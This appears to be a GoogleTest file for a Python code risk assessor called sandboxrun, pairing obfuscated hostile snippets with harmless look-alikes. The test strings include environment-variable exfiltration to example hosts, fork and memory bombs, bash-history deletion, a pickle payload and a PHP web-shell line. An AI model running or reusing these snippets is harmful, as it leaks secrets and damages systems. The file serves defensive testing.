// Value flow that spreads a behaviour over functions and variables (issue 13, round 3): what
// a local function returns, tuple items, `for k in os.environ`, Python 2 statements and XOR
// decoding. Each case pairs the hidden form with an honest look-alike that must stay lower.
#include <gtest/gtest.h>

#include "assess_fixture.hpp"
#include "sandboxrun/assess.hpp"

using namespace sandboxrun;

namespace {

using assess_fixture::level;

}  // namespace

TEST(AssessFlow, ReturnedPayloadKeepsItsKind) {
  // A command decoded in one function and run in another is still a decoded command.
  EXPECT_EQ(level("import os\nCODES = [105, 100]\ndef name():\n    return ''.join(map(chr, CODES))\n"
                  "os.system(name())\n"),
            RiskLevel::blocked);
  // Fragments returned by two functions and executed together.
  EXPECT_EQ(level("def a():\n    return \"__imp\" + \"ort__('o\"\ndef b():\n    return \"s').sys\" + \"tem('id')\"\n"
                  "exec(a() + b())\n"),
            RiskLevel::blocked);
  // A plain constant from a function is just a constant command.
  EXPECT_EQ(level("import subprocess\ndef cmd():\n    return 'git'\nsubprocess.run([cmd(), 'status'])\n"),
            RiskLevel::medium);
}

TEST(AssessFlow, TupleItemsAndUnpacking) {
  EXPECT_EQ(level("import socketserver\nHOST, PORT = '', 9000\n"
                  "socketserver.TCPServer((HOST, PORT), socketserver.BaseRequestHandler).serve_forever()\n"),
            RiskLevel::high);
  EXPECT_EQ(level("import socket\nADDR = ('', 5140)\ns = socket.socket()\ns.bind(ADDR)\n"), RiskLevel::high);
  EXPECT_EQ(level("import socketserver\nHOST, PORT = '127.0.0.1', 9000\n"
                  "socketserver.TCPServer((HOST, PORT), socketserver.BaseRequestHandler).serve_forever()\n"),
            RiskLevel::medium);
}

TEST(AssessFlow, IteratingTheEnvironmentCollectsIt) {
  EXPECT_EQ(level("import os, requests\nd = {}\nfor k in os.environ:\n    d[k] = os.environ[k]\n"
                  "requests.post('https://hooks.example.net/x', json=d)\n"),
            RiskLevel::blocked);
  EXPECT_EQ(level("import os, requests\nfor k in ['LANG', 'TZ']:\n    print(os.environ.get(k))\n"
                  "requests.post('https://metrics.example.net/x', json={'n': 1})\n"),
            RiskLevel::medium);
}

TEST(AssessFlow, PythonTwoStatements) {
  // `exec code` with a name after it is still an exec; Python 2 code with a network client
  // cannot run as Python 3 and is refused.
  EXPECT_EQ(level("import base64\nB = 'aW1wb3J0IG9z'\nexec base64.b64decode(B)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import urllib2\nprint 'fetching'\nurllib2.urlopen('http://example.com').read()\n"),
            RiskLevel::blocked);
  // A harmless Python 2 print script cannot run either: refused, as a file that does not compile is.
  EXPECT_EQ(level("print 'hello'\nx = 1\nprint x\n"), RiskLevel::blocked);
  // Python 3 that only looks similar compiles and stays LOW.
  EXPECT_EQ(level("print('hello')\nexec_count = 1\nprint(exec_count)\n"), RiskLevel::low);
  // `except E, e:` binds e in Python 2; Python 3.14 reads `except A, B:` as two types (PEP 758).
  EXPECT_EQ(level("try:\n    x = 1\nexcept ValueError, e:\n    pass\n"), RiskLevel::blocked);
  EXPECT_EQ(level("try:\n    x = int('1')\nexcept IndexError, ValueError:\n    print('bad')\n"), RiskLevel::low);
}

TEST(AssessFlow, RandomForSecretsIsToldByWhatTheValueIsNamed) {
  // The random module making a reset code, an API key or a salt: weak randomness for secrets.
  EXPECT_EQ(level("import random, string\ndef make_reset_code():\n    return ''.join(random.choice(string.digits) for _ in range(6))\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import random\napi_key = '%032x' % random.getrandbits(128)\nprint(api_key)\n"), RiskLevel::medium);
  // secrets, SystemRandom, and random for a game's reset, a sort key or a tokenizer's tokens are not.
  EXPECT_EQ(level("import secrets\ndef make_reset_code():\n    return secrets.token_hex(8)\n"), RiskLevel::low);
  EXPECT_EQ(level("import random\ndef new_salt():\n    return random.SystemRandom().getrandbits(64)\n"), RiskLevel::low);
  EXPECT_EQ(level("import random\ndef reset_board(n):\n    return [random.randint(0, 1) for _ in range(n)]\n"
                  "tokens = 'a b c'.split()\nnext_token = random.choice(tokens)\nkey = random.random()\n"
                  "secret = random.randint(1, 100)\n"),
            RiskLevel::low);
}

TEST(AssessFlow, AttrgetterCarriesItsNameToItsCall) {
  // attrgetter("remove")(os) is os.remove, bound to a name like getattr's result.
  EXPECT_EQ(level("import os, operator\n_rm = operator.attrgetter('remove')(os)\n_rm(os.path.expanduser('~/.bash_history'))\n"),
            RiskLevel::blocked);
  // A key function is no call of anything.
  EXPECT_EQ(level("import operator\nrows = [(2, 'b'), (1, 'a')]\nprint(sorted(rows, key=operator.itemgetter(0)))\n"
                  "class P:\n    name = 'x'\nprint(operator.attrgetter('name')(P()))\n"),
            RiskLevel::low);
}

TEST(AssessFlow, AConsumerLoopIsNoMemoryBomb) {
  // `while True:` that awaits its queue each pass grows with what it is given.
  EXPECT_EQ(level("import asyncio\nasync def consume(q, out):\n    while True:\n        item = await q.get()\n"
                  "        out.append(item)\n        q.task_done()\n"),
            RiskLevel::low);
  // Growth without end stays a memory bomb, paced by asyncio.sleep or not.
  EXPECT_EQ(level("data = []\nwhile True:\n    data.append('x' * 10**6)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("import asyncio\nasync def grow(data):\n    while True:\n        await asyncio.sleep(0)\n"
                  "        data.append('x' * 10**6)\n"),
            RiskLevel::blocked);
  // A forking server forks once per connection it accepts: no fork bomb.
  EXPECT_EQ(level("import os, socket\ns = socket.socket()\ns.bind(('127.0.0.1', 8000))\ns.listen()\nwhile True:\n"
                  "    conn, _ = s.accept()\n    if os.fork() == 0:\n        conn.sendall(b'hi')\n        os._exit(0)\n"
                  "    conn.close()\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import os\nwhile True:\n    os.fork()\n"), RiskLevel::blocked);
  // A generator's endless loop stops at each yield: its consumer bounds it.
  EXPECT_EQ(level("def fib():\n    a, b = 0, 1\n    while True:\n        a, b = b, a + b\n        yield b\n"), RiskLevel::low);
  // A search that recurses where a condition holds ends with its data; one that recurses
  // whatever happens does not.
  EXPECT_EQ(level("found = []\ndef dfs(n, seen):\n    for m in n.children:\n        if m not in seen:\n"
                  "            seen.add(m)\n            found.append(m)\n            dfs(m, seen)\n"),
            RiskLevel::low);
  EXPECT_EQ(level("import os\ndef bomb():\n    os.fork()\n    bomb()\nbomb()\n"), RiskLevel::blocked);
}

TEST(AssessFlow, GetattrOnSelfDispatchesToOwnMethods) {
  // A command loop's getattr(self, "cmd_" + verb), even when verb is known, is LOW.
  EXPECT_EQ(level("class Game:\n    def cmd_go(self, where):\n        print(where)\n    def run(self, verb):\n"
                  "        if verb == 'n':\n            verb = 'go'\n        handler = getattr(self, 'cmd_' + verb, None)\n"
                  "        if handler:\n            handler('north')\nGame().run('n')\n"),
            RiskLevel::low);
  // The same assembly on a module is obfuscation.
  EXPECT_EQ(level("import os\nf = getattr(os, 'sys' + 'tem')\n"), RiskLevel::high);
}

TEST(AssessFlow, CodeThatPythonCannotCompileIsRefused) {
  // Other languages saved as .py, and Python 2, fail as CPython's tokenizer or parser would.
  for (const char* src : {"<?php\nsystem($_GET['c']);\n", "use strict;\nmy @f = glob('*');\n", "echo \"hi\"\nls -la\n",
                          "#include <stdio.h>\nint main(void) { return 0; }\n", "require 'socket'\nputs 'hi'\n",
                          "<html><body>hi</body></html>\n", "x = 0777\n", "if 1 <> 2:\n    pass\n", "x = `1`\n",
                          "Write-Host \"hi\"\n", "SELECT name FROM users;\n"})
    EXPECT_EQ(level(src), RiskLevel::blocked) << src;
  // Generated code in a Markdown fence is told so: the finding names the likely cause.
  const Assessment fenced = assess_source("```python\nprint('hi')\n```\n", assess_fixture::config());
  ASSERT_EQ(fenced.level, RiskLevel::blocked);
  ASSERT_FALSE(fenced.findings.empty());
  EXPECT_NE(fenced.findings[0].message.find("Markdown code fence"), std::string::npos) << fenced.findings[0].message;
  // Valid Python 3 that looks close: soft keywords as names, string prefixes, numbers, starred
  // and unary statements, decorators.
  EXPECT_EQ(level("import re\nmatch = re.match('a', 'a')\ncase = type = 1\nprint(match, case, type)\nx = 5\n"
                  "match x:\n    case 5:\n        pass\n    case _:\n        pass\n"
                  "y = Rb'a' + BR'b' + b'c'\nz = u'x' + F'{x!r:>4}' + fR'{x}'\n"
                  "n = 0 + 00 + 0_0 + 00.5 + 0e1 + 0j + 0x1F + 0o17 + 1_000 + .5 + 5. + 1J\n"
                  "*a, b = [1, 2, 3]\n-n\n~x\n...\n@staticmethod\ndef f(): pass\nprint(n, y, z, a, b, 1 < x < 9)\n"),
            RiskLevel::low);
}

TEST(AssessFlow, XorDecodedCodeIsExecutedPayload) {
  EXPECT_EQ(level("K = 7\nD = [1, 2, 3]\ndef u(d):\n    return bytes(b ^ K for b in d).decode()\nexec(u(D))\n"),
            RiskLevel::blocked);
  // XOR of bytes without any exec is a checksum.
  EXPECT_EQ(level("import sys\ndata = open(sys.argv[1], 'rb').read()\nprint(bytes(b ^ 0x55 for b in data)[:4])\n"),
            RiskLevel::low);
}

TEST(AssessFlow, EnvironmentCopiesSentOutButNotHandedToChildren) {
  // A dict literal that unpacks the environment is a copy of it, wherever the name goes.
  EXPECT_EQ(level("import os, requests\nsnap = {**os.environ}\nrequests.post('https://c.example.net', json=snap)\n"),
            RiskLevel::blocked);
  // A copy given to a child process (env=) sends nothing out, even beside a network client.
  EXPECT_EQ(level("import os, subprocess, requests\nsubprocess.run(['make'], env={**os.environ, 'CI': '1'})\n"
                  "env = os.environ.copy()\nsubprocess.run(['make'], env=env)\n"
                  "requests.get('https://status.example.com/ping')\n"),
            RiskLevel::medium);
}

TEST(AssessFlow, PythonTwoExceptClause) {
  EXPECT_EQ(level("import socket, os\ntry:\n    socket.create_connection(('203.0.113.1', 80))\n"
                  "except socket.error, e:\n    pass\n"),
            RiskLevel::blocked);
  // Python 3's bracketed form is not Python 2.
  EXPECT_EQ(level("import socket\ntry:\n    socket.create_connection(('example.com', 80))\n"
                  "except (OSError, ValueError) as e:\n    pass\n"),
            RiskLevel::medium);
}

TEST(AssessFlow, CharacterCodesAndMethodcaller) {
  // bytes() of a literal list of codes is text spelled in numbers: executed, it is a payload.
  EXPECT_EQ(level("code = bytes([112, 114, 105, 110, 116, 40, 49, 41])\nexec(code)\n"), RiskLevel::blocked);
  EXPECT_EQ(level("hdr = bytes([0x89, 0x50, 0x4E, 0x47])\nprint(hdr)\n"), RiskLevel::low);
  // A pickle that arrives base64-encoded runs whatever it encodes when loaded.
  EXPECT_EQ(level("import pickle, base64\npickle.loads(base64.b64decode('gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOU'))\n"),
            RiskLevel::blocked);
  // os.system reached through operator.methodcaller is still a shell.
  EXPECT_GE(level("import operator, os\noperator.methodcaller('system', 'id')(os)\n"), RiskLevel::high);
}

TEST(AssessFlow, AComputedArgumentIsNotTheEmptyHost) {
  // `[...] + list(args)` has no known text; it is not the empty host of `("", port)`.
  EXPECT_EQ(level("import subprocess\ndef run(args):\n"
                  "    return subprocess.run(['tool', '--id'] + list(args), capture_output=True)\n"),
            RiskLevel::medium);
  EXPECT_EQ(level("import socket\ns = socket.socket()\ns.bind(('', 8080))\n"), RiskLevel::high);
}
